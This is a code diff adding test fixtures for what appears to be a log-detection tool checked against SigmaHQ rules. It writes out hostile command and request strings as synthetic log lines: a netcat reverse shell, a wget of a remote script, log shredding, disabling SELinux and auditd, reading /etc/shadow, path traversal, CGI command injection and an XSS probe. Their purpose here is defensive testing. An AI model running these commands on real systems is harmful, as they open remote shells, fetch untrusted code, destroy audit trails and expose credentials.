@@ -59,3 +59,46 @@ def sources_scope(events: Iterable[EcsEvent]) -> dict[str, object]:
 
 def rule_paths() -> list[Path]:
     return [dataset("sigma", d) for d in ("rules", "rules-threat-hunting", "rules-emerging-threats")]
+
+
+# --- Linux, web server, proxy, DNS, firewall ----------------------------------------------------------
+
+ECS_FILES = [("loghub", "OpenSSH", "OpenSSH_2k.log"), ("loghub", "Linux", "Linux_2k.log"),
+             ("loghub", "Apache", "Apache_2k.log"), ("loghub", "Proxifier", "Proxifier_2k.log")]  # fmt: skip
+ECS_SAMPLE_DIRS = ("auditd", "authlog", "apache", "nginx", "squid", "dns_bind", "iptables", "syslog", "postfix",
+                   "samba_full_audit")  # fmt: skip
+SUDO = "Feb 23 00:08:48 localhost sudo: vagrant : TTY=pts/1 ; PWD=/home/vagrant ; USER=root ; COMMAND={}"
+EXECVE = "type=EXECVE msg=audit(1581371984.206:{serial}): argc={argc} {args}"
+APACHE = '192.168.1.23 - - [23/Mar/2018:12:31:01 +0000] "GET {path} HTTP/1.1" 200 28 "-" "{agent}"'
+# Real lines of the samples with the command / request changed to what SigmaHQ Linux and web rules look
+# for: the benign samples alone fire only two of these rules.
+VARIANTS = [
+    *(SUDO.format(c) for c in ("/usr/bin/chattr -i /etc/passwd", "/usr/bin/base64 -d /tmp/x",
+                               "/bin/nc -e /bin/sh 10.0.0.1 4444",
+                               "/usr/bin/find / -perm -4000", "/usr/bin/crontab -l", "/usr/bin/wget http://10.0.0.9/x.sh",
+                               "/usr/bin/python3 -c import pty;pty.spawn('/bin/sh')", "/usr/sbin/setenforce 0",
+                               "/usr/bin/shred -u /var/log/auth.log", "/bin/rm -rf /var/log/syslog",
+                               "/usr/bin/xclip -selection clipboard -o", "/usr/sbin/iptables -F")),
+    *(EXECVE.format(serial=600000 + i, argc=len(a), args=" ".join(f'a{j}="{x}"' for j, x in enumerate(a)))
+      for i, a in enumerate((("chattr", "+i", "/etc/shadow"), ("getcap", "-r", "/"), ("xclip", "-o"),
+                             ("base64", "-d"), ("systemctl", "stop", "auditd"), ("cat", "/etc/shadow")))),
+    *(APACHE.format(path=p, agent=a) for p, a in (("/../../../../etc/passwd", "curl/7.1"), ("/index.php", "sqlmap/1.4"),
+                                                  ("/cgi-bin/;echo;cat /etc/passwd", "Nmap Scripting Engine"),
+                                                  ("/?q=<script>alert(1)</script>", "Mozilla/5.0"))),
+]  # fmt: skip
+
+
+def ecs_events(prefix: str, workdir: Path) -> list[EcsEvent]:
+    """Every real non-Windows event Vigil parses from loghub and samplelogs, and the variants above
+    (written to `workdir`), `source` = prefix + file name."""
+    files = [dataset(*f) for f in ECS_FILES]
+    files += [p for d in ECS_SAMPLE_DIRS for p in sorted(dataset("samplelogs", d).rglob("*")) if p.is_file()]
+    variants = workdir / "variants.log"
+    variants.write_text("\n".join(VARIANTS) + "\n", encoding="utf-8")
+    events: list[EcsEvent] = []
+    for path in [*files, variants]:
+        for envelope in iter_file_envelopes(Path(path), source=f"{prefix}{path.name}", fmt="auto", timezone="UTC"):
+            event = normalise(envelope, ZoneInfo("UTC"))
+            if isinstance(event, EcsEvent) and event.winlog is None:
+                events.append(event)
+    return events
